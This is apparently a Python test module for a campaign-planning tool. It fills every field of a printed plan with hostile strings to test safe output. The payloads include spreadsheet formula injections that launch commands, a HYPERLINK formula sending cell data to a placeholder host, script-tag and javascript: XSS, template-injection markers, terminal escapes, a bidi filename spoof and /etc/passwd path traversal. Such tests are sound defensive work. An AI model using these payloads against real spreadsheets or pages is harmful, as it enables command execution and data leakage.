"""Texts that try to be more than text, in every field of a plan that is printed."""

from __future__ import annotations

from typing import Any

from promoplan.campaign import Campaign
from tests.views.sheets import campaign_of

PAYLOADS = {
    "formula": "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "blanks before": "  \t=1+1",
    "line before": "\n=1+1",
    "line inside": "ok\r\n=1+1,\"a\"\n\"",
    "quotes": "\"\",=1+1,\"",
    "tags": "</td></table><script>alert(1)</script><img src=x onerror=alert(1)>",
    "entities": "&lt;b&gt;&amp;\"'",
    "rich": "[link=file:///etc/passwd]x[/link] [bold red]y[/] :smile:",
    "markdown": "[x](javascript:alert(1)) `a` | **b** <http://x.invalid>",
    "template": "{{ 7*7 }} {% for x in y %} ${site} %s {0}",
    "escape": "\x1b[31mred\x1b]8;;http://x.invalid\x07y\x9b2J",
    "bidi": "abc\u202egnp.exe\u2066x",
    "nul": "a\x00b\x08\x7f\u2028c\u2029d\u0085e",
    "long": "长" * 39_990 + "=1+1",
    "path": "../../etc/passwd",
    "device": "CON",
    "chinese": "促销，满减；「双十一」",
}  # fmt: skip


def everywhere(text: str) -> Campaign:
    """A campaign that says a text wherever it can."""
    head: dict[str, Any] = {
        "name": text, "brand": text, "version": text, "platform": [text, "天猫"],
        "brief": dict.fromkeys(("theme", "slogan", "purpose", "place", "audience", "background"), text),
    }  # fmt: skip
    return campaign_of({**_people_and_days(text), **_work(text), **_numbers(text)}, today="2026-11-06", **head)


def _people_and_days(text: str) -> dict[str, Any]:
    return {
        "calendar": {"freeze": [{"window": "T-2 .. T", "scope": [text], "note": text}]},
        "departments": {
            "ops": {"name": text, "alias": text, "side": text, "teams": {"one": {"name": text, "members": ["li"]}}},
            "shop": {"name": text, "external": "yes"},
        },
        "people": {"li": {"name": text, "phone": text, "role": text, "away": ["T-3"]}},
        "sites": {"north": {"name": text, "place": text}},
        "phases": [{"id": "p", "name": text, "notes": text, "window": "T-9 .. T"}],
        "key_dates": {"k": {"at": "T-3", "name": text, "notes": text}},
        "follow_ups": [{"id": "fu", "name": text, "at": "T-5", "owner": "li"}],
    }


def _work(text: str) -> dict[str, Any]:
    return {
        "attachments": [{"id": "f", "path": text[:200], "name": text, "notes": text}],
        "materials": [{"item": text, "spec": text, "unit": text, "notes": text, "department": "ops"}],
        "media": [{"channel": text, "kind": text, "content": text, "notes": text, "window": "T-3 .. T"}],
        "rewards": [{"title": text, "threshold": text, "claim": text, "reward": text, "notes": text}],
        "tools": {"天猫": {"has": [text], "bans": [text]}},
        "sheets": [{"id": "own", "view": view, "name": text, "sections": [text]} for view in ("day-grid",)],
        "tasks": [
            {
                "id": "a", "title": text, "department": "ops", "owner": "li", "due": "T-5", "section": text,
                "notes": text, "log": {"T-5": text}, "minutes": {"fu": text}, "done_when": text, "because": text,
                "status": "blocked", "touches": [text], "tools": [text],
                "steps": [{"title": text, "due": "T-6", "notes": text}],
            },
            {"id": "b", "title": text, "department": "shop", "owner": "li", "due": "T-4", "needs": ["a"]},
            {
                "id": "c", "title": text, "department": "shop", "owner": "li", "due": "T-4", "for_each": "sites",
                "each": {"north": {"status": "blocked", "notes": text, "because": text}},
            },
        ],
    }  # fmt: skip


def _numbers(text: str) -> dict[str, Any]:
    goal = {"own": {"value": "99%", "name": text, "notes": text}}
    channel = {"channel": text, "group": text, "kind": text, "uv": "100", "notes": text}
    cost = {"cap": "5000", "notes": text}
    return {
        "targets": {
            "gmv": {"floor": "2600", "stretch": "3000", "notes": text}, "conversion_rate": "10%",
            "avg_order_value": "260", "notes": text, "service": goal, "operation": goal, "crm": goal,
            "shops": {"b": {"name": text, "floor": "2600", "notes": text}},
            "aims": [{"aim": text, "measured_by": text, "notes": text}],
        },
        "traffic": [
            {**channel, "last_year": {"uv": "90", "because": text}, "parts": [{**channel, "channel": f"{text} 1"}]},
        ],
        "promotion": [
            {
                "channel": text, "position": text, "source": text, "owner": "li", "keywords": [text], "notes": text,
                "uv": {"T-3": "10"},
                "placements": [{"name": text, "keywords": [text], "spend": {"T-3": "100"}, "notes": text}],
            },
        ],
        "products": {
            "notes": text,
            "tiers": [{"id": "hero", "name": text, "rule": text, "share": "100%", "notes": text}],
            "rows": [
                {
                    "sku": text, "name": text, "brand": text, "category": text, "spec": text, "tier": "hero",
                    "price": "260", "cost": "100", "plan_units": "10", "on_hand": "20", "notes": text,
                    "leads_to": ["B"], "allocation": {"tmall": "20"},
                },
                {"sku": "B", "price": "1", "plan_units": "1", "on_hand": "1"},
            ],
            "replenish": [{"sku": "B", "period": text, "sold": "5", "views": "100", "notes": text}],
        },
        "prices": {
            "notes": text,
            "rows": [{"category": text, "category_share": "100%", "gift": text, "bundle": "B", "notes": text}],
            "discounts": [{"id": "cut", "name": text, "kind": "满减", "every": "300", "off": "40", "notes": text}],
        },
        "budget": {
            "notes": text, "operation": {"uv": {"value": "100", "notes": text}}, "costs": {"traffic": cost},
            "items": [{"item": text, "channels": [text], "cap": "500", "notes": text}],
        },
    }  # fmt: skip
